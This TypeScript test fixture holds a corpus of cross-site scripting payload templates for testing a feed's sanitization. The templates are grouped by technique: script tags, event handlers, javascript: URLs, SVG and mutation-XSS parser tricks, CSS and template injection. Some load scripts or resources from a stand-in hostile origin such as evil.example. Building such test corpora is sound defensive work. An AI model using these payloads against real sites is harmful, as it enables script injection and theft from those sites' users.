/**
 * Hostile strings for every field of the feed. Each payload calls the global canary
 * `__xss(<its number>)` if it ever runs, and points any request it could make at EVIL, a
 * counting route on another origin (see xss.test.ts), so a test can tell a payload that ran or
 * fetched from one that was shown as text or dropped.
 *
 * `CANARY` stands for the call `__xss(N)`; `EVIL` for the hostile origin's base URL. Encoded
 * variants of the canary (`CANARY_URI`, `CANARY_HEX`, …) are filled in by `payloads()`.
 */

/** The payload templates, grouped by the trick they try. */
export const CORPUS: Readonly<Record<string, readonly string[]>> = {
  script: [
    '<script>CANARY</script>',
    '<SCRIPT>CANARY</SCRIPT>',
    '<script src="EVIL/s.js"></script>',
    '<script>/*</script>*/CANARY</script>',
    '<scr<script>ipt>CANARY</scr</script>ipt>',
    '"><script>CANARY</script>',
    "'><script>CANARY</script>",
    '<script type="module">CANARY</script>',
    '<script defer async>CANARY</script>',
    '</title><script>CANARY</script>',
    '<</p>script>CANARY<</p>/script>',
  ],
  handlers: [
    '<img src=x onerror=CANARY>',
    '<img src="x" onerror="CANARY">',
    '<IMG SRC=x OnErRoR=CANARY>',
    '<img src=x onerror\t=\tCANARY>',
    '<img/src=x/onerror=CANARY>',
    '<body onload=CANARY>',
    '<svg onload=CANARY>',
    '<svg/onload=CANARY>',
    '<div onmouseover="CANARY">hover</div>',
    '<a href="#" onclick="CANARY">click</a>',
    '<p onfocus=CANARY tabindex=1 autofocus>x</p>',
    '<input autofocus onfocus=CANARY>',
    '<details open ontoggle=CANARY>',
    '<video><source onerror="CANARY"></video>',
    '<audio src=x onerror=CANARY>',
    '<marquee onstart=CANARY>x</marquee>',
    '<select autofocus onfocus=CANARY>',
    '<textarea autofocus onfocus=CANARY>',
    '<keygen autofocus onfocus=CANARY>',
    '<img src=x onerror=&#x43;ANARY>',
    '" onerror="CANARY" x="',
    "' onerror='CANARY' x='",
    '<img src="x` `<script>CANARY</script>"` `>',
    '<image src=x onerror=CANARY>',
    '<style onload=CANARY></style>',
  ],
  urls: [
    'javascript:CANARY',
    'JAVASCRIPT:CANARY',
    ' javascript:CANARY',
    'java\tscript:CANARY',
    'java\nscript:CANARY',
    'java\rscript:CANARY',
    '\u0001javascript:CANARY',
    'javascript\u0000:CANARY',
    'jav&#x61;script:CANARY',
    'jav&#97;script:CANARY',
    '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;CANARY_ENT',
    'javascript&colon;CANARY',
    'javascript:%2F%2F%0ACANARY_URI',
    'javascript://%0aCANARY_URI',
    'vbscript:msgbox(1)',
    'VBScript:CANARY',
    'data:text/html,<script>CANARY</script>',
    'data:text/html;base64,CANARY_B64',
    'data:image/svg+xml,<svg onload=CANARY>',
    'DaTa:text/html,<script>CANARY</script>',
    '\\\\evil.example\\x',
    '/\\evil.example/x',
    '//evil.example/x',
    'https:EVIL/x',
    'EVIL/absolute.png',
    'https://evil.example/x.png',
    'java\u200bscript:CANARY',
    'javascript\u2028:CANARY',
    '\ufeffjavascript:CANARY',
    'jav\u00adascript:CANARY',
    '<a href="javascript:CANARY">a</a>',
    '<a href="  javascript:CANARY">a</a>',
    '<a href="jav&#x09;ascript:CANARY">a</a>',
    '<a href="jav\tascript:CANARY">a</a>',
    '<a href="javascript&colon;CANARY">a</a>',
    '<a href="&#x6A;avascript:CANARY">a</a>',
    '<a href="data:text/html,<script>CANARY</script>">a</a>',
    '<a href="vbscript:CANARY">a</a>',
    '<img src="javascript:CANARY">',
    '<img src="EVIL/in-html.png">',
    '<img srcset="EVIL/srcset.png 1x">',
    '<a href="EVIL/link" ping="EVIL/ping">ping</a>',
  ],
  svgMath: [
    '<svg><script>CANARY</script></svg>',
    '<svg><a xlink:href="javascript:CANARY"><text y="20">x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=CANARY>#x"></use></svg>',
    '<svg><animate onbegin=CANARY attributeName=x dur=1s>',
    '<svg><set attributeName=href to="javascript:CANARY"/></svg>',
    '<svg><foreignObject><img src=x onerror=CANARY></foreignObject></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:CANARY">x</maction></math>',
    '<math href="javascript:CANARY">x</math>',
    '<svg><image href="EVIL/svg-image.png"></image></svg>',
    '<svg><style>@import "EVIL/svg.css";</style></svg>',
  ],
  mutation: [
    '<noscript><p title="</noscript><img src=x onerror=CANARY>">',
    '<svg><style><img src=x onerror=CANARY></style></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=CANARY></style></mglyph></table></mtext></math>',
    '<math><mi><table><mi><style><img src=x onerror=CANARY>',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CANARY>',
    '<svg></p><style><a id="</style><img src=x onerror=CANARY>">',
    '<svg><p><style><img src=x onerror=CANARY></style></p></svg>',
    '<table><tr><td><style></td><img src=x onerror=CANARY></style>',
    '<xmp><p title="</xmp><img src=x onerror=CANARY>">',
    '<title><p title="</title><img src=x onerror=CANARY>">',
    '<textarea><p title="</textarea><img src=x onerror=CANARY>">',
    '<iframe><p title="</iframe><img src=x onerror=CANARY>">',
    '<noembed><p title="</noembed><img src=x onerror=CANARY>">',
    '<template><img src=x onerror=CANARY></template>',
    '<a id="x"><a id="x" name="y">clobber</a></a><form id="sonnec"><input name="attributes"></form>',
    '<img name="getElementById"><img name="createElement">',
  ],
  css: [
    '<style>*{display:none!important}</style>',
    '<style>@import url("EVIL/import.css");</style>',
    '<p style="background:url(EVIL/bg.png)">bg</p>',
    '<p style="position:fixed;inset:0;z-index:2147483647;background:red">cover</p>',
    '<link rel="stylesheet" href="EVIL/link.css">',
    '<div style="width:expression(CANARY)">ie</div>',
    '</style><img src=x onerror=CANARY>',
    'x{}*{background:url(EVIL/css-text.png)}',
    '<p style="behavior:url(EVIL/x.htc)">htc</p>',
    '<font face="x" style="font-family:\'</style><img src=x onerror=CANARY>\'">f</font>',
  ],
  entities: [
    '&lt;script&gt;CANARY&lt;/script&gt;',
    '&amp;lt;img src=x onerror=CANARY&amp;gt;',
    '\u003cscript\u003eCANARY\u003c/script\u003e',
    '\\u003cscript\\u003eCANARY\\u003c/script\\u003e',
    '＜script＞CANARY＜/script＞',
    '<scr\u0000ipt>CANARY</scr\u0000ipt>',
    '<img src=x onerror="&#99;&#97;&#110;&#97;&#114;&#121;;CANARY">',
    '\u202e<img src=x onerror=CANARY>',
    '%3Cscript%3ECANARY%3C/script%3E',
    '<img src=x onerror=eval(atob("CANARY_B64"))>',
    '<a href="jav&NewLine;ascript&colon;CANARY">nl</a>',
    '\ud800<script>CANARY</script>\udfff',
  ],
  jsonLd: [
    '</script><script>CANARY</script>',
    '</SCRIPT><img src=x onerror=CANARY>',
    '</script ><img src=x onerror=CANARY>',
    '<!--<script>CANARY</script>-->',
    '<!--</script><img src=x onerror=CANARY>',
    '\u2028\u2029</script><script>CANARY</script>',
    '"},{"@type":"x","name":"</script><script>CANARY</script>',
    '\\"}]}</script><script>CANARY</script>',
  ],
  templates: [
    '{{constructor.constructor("CANARY")()}}',
    '${CANARY}',
    '<!--?lit$123456$--><img src=x onerror=CANARY>',
    '<?lit$123$>',
    'lit$123$',
    '<!--?lit$0$-->CANARY',
    '#{CANARY}',
    '[[CANARY]]',
    '<%= CANARY %>',
    '{{#each x}}{{{CANARY}}}{{/each}}',
  ],
  elements: [
    '<iframe src="javascript:CANARY"></iframe>',
    '<iframe srcdoc="<script>parent.CANARY</script>"></iframe>',
    '<object data="javascript:CANARY"></object>',
    '<embed src="javascript:CANARY">',
    '<form action="javascript:CANARY"><button>go</button></form>',
    '<button formaction="javascript:CANARY">go</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:CANARY">',
    '<base href="EVIL/">',
    '<isindex action="javascript:CANARY" type=image>',
    '<portal src="EVIL/portal"></portal>',
    '<frameset onload=CANARY>',
    '<dialog open onclose=CANARY><form method=dialog><button>x</button></form></dialog>',
  ],
};

export interface Payload {
  /** The canary number: `__xss(n)` is called if the payload ever runs. */
  readonly n: number;
  readonly group: string;
  readonly text: string;
}

/** The corpus with the canary and the hostile origin filled in, numbered from 1. */
export function payloads(evil: string): Payload[] {
  const out: Payload[] = [];
  for (const [group, list] of Object.entries(CORPUS)) {
    for (const template of list) {
      const n = out.length + 1;
      const call = `__xss(${n})`;
      const text = template
        .replace(/CANARY_URI/g, encodeURIComponent(call))
        .replace(/CANARY_ENT/g, [...call].map((c) => `&#${c.charCodeAt(0)};`).join(''))
        .replace(/CANARY_B64/g, btoa(`<script>${call}</script>`))
        .replace(/CANARY/g, call)
        .replace(/EVIL/g, `${evil}-${n}`);
      out.push({ n, group, text });
    }
  }
  return out;
}
